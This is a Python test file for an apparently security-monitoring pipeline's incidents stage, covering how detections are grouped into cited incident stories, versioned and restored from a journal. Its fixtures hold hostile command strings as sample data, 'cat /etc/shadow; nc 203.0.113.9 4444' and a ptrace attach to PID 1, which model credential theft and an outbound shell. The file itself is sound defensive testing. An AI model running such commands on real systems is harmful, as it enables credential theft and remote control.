"""The incidents stage on agent-shaped batches: grouping, severity, stories, versions, the
journal (docs/incidents.md)."""

from __future__ import annotations

import re
from pathlib import Path

from otelguard import semconv as S
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest

from otelguard.otlp.messages import PyValue, attrs_dict, iter_log_records
from otelguard.processors import registry
from otelguard.processors.config import ProcessorSpec
from otelguard.processors.incidents import Config, IncidentsStage
from otelguard.processors.noise import Config as NoiseConfig
from otelguard.processors.pipeline import Pipeline
from otelguard.processors.stage import Batch
from tests.support.incidents import batch, detection, event, incidents, latest, pod, trace

SHADOW: dict[str, PyValue] = {S.PROCESS_EXECUTABLE_PATH: "/bin/cat", S.PROCESS_COMMAND_LINE: "cat /etc/shadow",
          S.FILE_PATH: "/etc/shadow", S.FILE_OPEN_FLAGS: "O_RDONLY", S.PROCESS_USER_ID: 0,
          S.PROCESS_PARENT_EXECUTABLE_PATH: "/bin/sh",
          S.PROCESS_PARENT_COMMAND_LINE: "sh -c cat /etc/shadow; nc 203.0.113.9 4444"}
CONNECT: dict[str, PyValue] = {S.PROCESS_EXECUTABLE_PATH: "/usr/bin/nc", S.PROCESS_COMMAND_LINE:
           "nc 203.0.113.9 4444", S.NETWORK_PEER_ADDRESS: "203.0.113.9",
           S.NETWORK_PEER_PORT: 4444, S.NETWORK_TRANSPORT: "tcp"}


class Clock:
    def __init__(self) -> None:
        self.now = 1_000.0

    def __call__(self) -> float:
        return self.now


def chain(tr: bytes, res: dict[str, PyValue],
          shell_pid: int = 200) -> list[ExportLogsServiceRequest]:
    """A shell reads /etc/shadow through cat, then nc connects out: two batches."""
    sh = event(S.EV_PROCESS_EXEC, shell_pid, tr, ppid=1,
               attrs={S.PROCESS_EXECUTABLE_PATH: "/bin/sh"})
    cat = event(S.EV_FILE_OPEN, shell_pid + 1, tr, ppid=shell_pid, t=10, attrs=SHADOW)
    noise = [event(S.EV_FILE_OPEN, shell_pid + 1, tr, t=11) for _ in range(120)]
    nc = event(S.EV_NETWORK_CONNECT, shell_pid + 2, tr, ppid=shell_pid, t=20, attrs=CONNECT)
    return [
        batch(res, [sh, cat, *noise],
              [detection(cat, "Read sensitive file untrusted", 13, "credential_access",
                         "T1555", attrs={S.FILE_PATH: "/etc/shadow"})]),
        batch(res, [nc], [detection(nc, "Outbound connection to C2", 17, "command_and_control",
                                    "T1071")]),
    ]


def run(stage: IncidentsStage, batches: list[ExportLogsServiceRequest]) -> list[Batch]:
    out: list[Batch] = []
    for b in batches:
        out.append(stage.process(b))
    out += stage.drain(False)
    return out


def test_a_chain_in_one_process_tree_is_one_incident_with_a_cited_story() -> None:
    stage = IncidentsStage(Config(), clock=Clock())
    out = run(stage, chain(trace("a"), pod()))
    found = latest(out)
    assert len(found) == 1
    attrs, rec = next(iter(found.values()))
    assert rec.severity_text == "CRITICAL"  # ERROR raised by two chained tactics
    assert "credential_access -> command_and_control" in str(attrs[S.INCIDENT_SEVERITY_REASON])
    assert attrs[S.INCIDENT_TECHNIQUES] == ["T1555", "T1071"]
    assert attrs[S.INCIDENT_DETECTIONS] == 2 and attrs[S.INCIDENT_STEPS] == 2
    assert attrs[S.INCIDENT_EVENTS] == 123
    body = rec.body.string_value
    assert "pod shop/web-6d4b9c7f5-x2x9q" in body and "read /etc/shadow" in body
    assert "connected to 203.0.113.9:4444/tcp" in body and "`nc 203.0.113.9 4444`" in body
    assert "https://attack.mitre.org/techniques/T1555/" in body
    assert "CIS Kubernetes Benchmark 5.2.7" in body  # ran as root in a container
    # every sentence of the story, why-it-matters and next-steps cites evidence ids that the
    # evidence table resolves to uids listed in otelguard.incident.evidence
    evidence = attrs[S.INCIDENT_EVIDENCE]
    assert isinstance(evidence, list)
    table = dict(re.findall(r"^  (E\d+) log\.record\.uid=(\S+)", body, re.M))
    section = ""
    for line in body.splitlines():
        if line.endswith(":") and not line.startswith(" "):
            section = line
        if section in ("What happened:", "Why it matters:", "Next steps:") and \
                line.startswith("  "):
            cited = re.findall(r"E\d+", "".join(re.findall(r"\[(E[\d, E]+)\]", line)))
            assert cited, line
            assert all(table[e] in evidence for e in cited)
    resource = incidents(out)[0][0]
    assert resource[S.STREAM] == S.STREAM_INCIDENT and rec.event_name == S.EV_INCIDENT


def test_unrelated_detections_stay_separate_and_children_link_across_traces() -> None:
    stage = IncidentsStage(Config(), clock=Clock())
    batches = chain(trace("a"), pod())
    # the same container, another process tree, no link: its own incident
    other = event(S.EV_FILE_OPEN, 900, trace("b"), ppid=1, attrs=SHADOW)
    batches.append(batch(pod(), [other], [detection(other, "Read sensitive file untrusted",
                                                    13, "credential_access", "T1555")]))
    # another pod on the node: its own incident
    b2 = chain(trace("c"), pod(name="db-0", cid="d2", deployment=None))
    # a child of the detected nc that starts its own trace (a long-lived parent): linked
    child = event(S.EV_PROCESS_FORK, 777, trace("d"), ppid=202)
    late = event(S.EV_PTRACE, 777, trace("d"), ppid=202,
                 attrs={S.PTRACE_REQUEST: "PTRACE_ATTACH", S.TARGET_PID: 1})
    batches += b2 + [batch(pod(), [child]), batch(pod(), [late], [detection(
        late, "PTRACE attached to process", 17, "privilege_escalation", "T1055.008")])]
    found = latest(run(stage, batches))
    assert len(found) == 3
    by_steps = sorted(a[S.INCIDENT_STEPS] for a, _ in found.values())  # type: ignore[type-var]  # int attributes
    assert by_steps == [1, 2, 3]
    big = next(a for a, _ in found.values() if a[S.INCIDENT_STEPS] == 3)
    assert big[S.INCIDENT_TECHNIQUES] == ["T1055.008", "T1555", "T1071"]  # tactic order


def test_versions_grow_repeats_fold_and_idle_incidents_close() -> None:
    clock = Clock()
    stage = IncidentsStage(Config(idle_seconds=60), clock=clock)
    tr = trace("v")
    out = run(stage, chain(tr, pod()))
    first = latest(out)
    (iid, (attrs, _)), = first.items()
    assert attrs[S.INCIDENT_VERSION] == 1
    assert stage.drain(False) == []  # nothing changed: no new version
    again = event(S.EV_FILE_OPEN, 201, tr, ppid=200, t=30, attrs=SHADOW)
    b = batch(pod(), [again], [detection(again, "Read sensitive file untrusted", 13,
                                         "credential_access", "T1555")])
    dup = type(b)()
    dup.CopyFrom(b)
    out = run(stage, [b, dup])  # a retried request: counted once
    attrs, rec = latest(out)[iid]
    assert attrs[S.INCIDENT_VERSION] == 2 and attrs[S.INCIDENT_DETECTIONS] == 3
    assert attrs[S.INCIDENT_STEPS] == 2 and "2 times until" in rec.body.string_value
    clock.now += 61
    attrs, _ = latest(stage.drain(False))[iid]
    assert attrs[S.INCIDENT_STATUS] == "closed" and attrs[S.INCIDENT_VERSION] == 3
    out = run(stage, chain(tr, pod()))  # after closing, the same tree opens a new incident
    assert iid not in latest(out) and len(latest(out)) == 1


def test_evidence_resolves_after_noise_control_and_throttle_counts_fold_in() -> None:
    """In the pipeline (noise_control, then incidents) every cited uid is a record that left."""
    clock = Clock()
    specs = [ProcessorSpec("noise_control", "noise_control", NoiseConfig(burst=1)),
             ProcessorSpec("incidents", "incidents", Config())]
    pipeline = Pipeline([(s.name, registry.create(s.type, s.config)) for s in specs])
    pipeline.start()
    tr = trace("n")
    out = [pipeline.process(b).batch for b in chain(tr, pod())]
    for i in range(5):  # four more of the same read: throttled by noise control
        again = event(S.EV_FILE_OPEN, 201, tr, ppid=200, t=40 + i, attrs=SHADOW)
        out.append(pipeline.process(batch(pod(), [again], [detection(
            again, "Read sensitive file untrusted", 13, "credential_access", "T1555",
            attrs={S.FILE_PATH: "/etc/shadow"})])).batch)
    out += pipeline.shutdown()  # closes noise windows: the stop record carries the count
    uids = {attrs_dict(rec.attributes).get(S.LOG_RECORD_UID) for b in out
            for _, _, rec in iter_log_records(b)}
    (attrs, _), = latest(out).values()
    assert attrs[S.INCIDENT_DETECTIONS] == 7  # 2 + 1 passed + 4 counted by the stop record
    evidence = attrs[S.INCIDENT_EVIDENCE]
    assert isinstance(evidence, list)
    cited = [e for e in evidence if not re.fullmatch(r"[0-9a-f]{32}", str(e))]
    assert cited and all(u in uids for u in cited)
    del clock


def test_a_restart_reads_open_incidents_back_from_the_journal(tmp_path: Path) -> None:
    clock = Clock()
    stage = IncidentsStage(Config(), clock=clock)
    stage.open_state(tmp_path / "incidents.journal", 1 << 20)
    stage.start()
    tr = trace("j")
    b1, b2 = chain(tr, pod())
    stage.process(b1)
    assert stage.state_version > 0  # a request with a detection waits for the fsync
    out = stage.drain(False)
    write = stage.journal_write()
    assert write is not None
    write.run()
    (iid, (attrs, _)), = latest(out).items()
    # SIGKILL here: no shutdown. A new stage on the same journal takes the incident over.
    again = IncidentsStage(Config(), clock=clock)
    again.open_state(tmp_path / "incidents.journal", 1 << 20)
    again.start()
    re_emitted = latest(again.drain(False))
    assert re_emitted[iid][0][S.INCIDENT_VERSION] == 1  # the same version, the same uid
    assert re_emitted[iid][0][S.LOG_RECORD_UID] == attrs[S.LOG_RECORD_UID]
    again.process(b2)  # the connect joins the restored incident
    attrs, _ = latest(again.drain(False))[iid]
    assert attrs[S.INCIDENT_VERSION] == 2 and attrs[S.INCIDENT_STEPS] == 2
    again.shutdown()
    stage.shutdown()


def test_a_restart_never_re_emits_a_version_uid_with_other_content(tmp_path: Path) -> None:
    """Journaled after an acknowledged detection, killed before the drain that would tell it:
    the restart tells it as version 2 (version 1's uid keeps version 1's words)."""
    clock = Clock()
    stage = IncidentsStage(Config(), clock=clock)
    stage.open_state(tmp_path / "incidents.journal", 1 << 20)
    b1, b2 = chain(trace("k"), pod())
    stage.process(b1)
    (iid, (v1, rec1)), = latest(stage.drain(False)).items()
    stage.journal_write().run()  # type: ignore[union-attr]  # the drain changed it: a write
    stage.process(b2)  # acknowledged: journaled before the answer
    stage.journal_write().run()  # type: ignore[union-attr]
    again = IncidentsStage(Config(), clock=clock)  # SIGKILL here: no drain, no shutdown
    again.open_state(tmp_path / "incidents.journal", 1 << 20)
    attrs, rec = latest(again.drain(False))[iid]
    assert attrs[S.INCIDENT_VERSION] == 2 and attrs[S.INCIDENT_STEPS] == 2
    assert attrs[S.LOG_RECORD_UID] != v1[S.LOG_RECORD_UID]
    # a second restart with nothing new re-emits version 2 word for word
    again.journal_write().run()  # type: ignore[union-attr]
    third = IncidentsStage(Config(), clock=clock)
    third.open_state(tmp_path / "incidents.journal", 1 << 20)
    attrs3, rec3 = latest(third.drain(False))[iid]
    assert attrs3 == attrs and rec3.body.string_value == rec.body.string_value
    for s in (stage, again, third):
        s.shutdown()
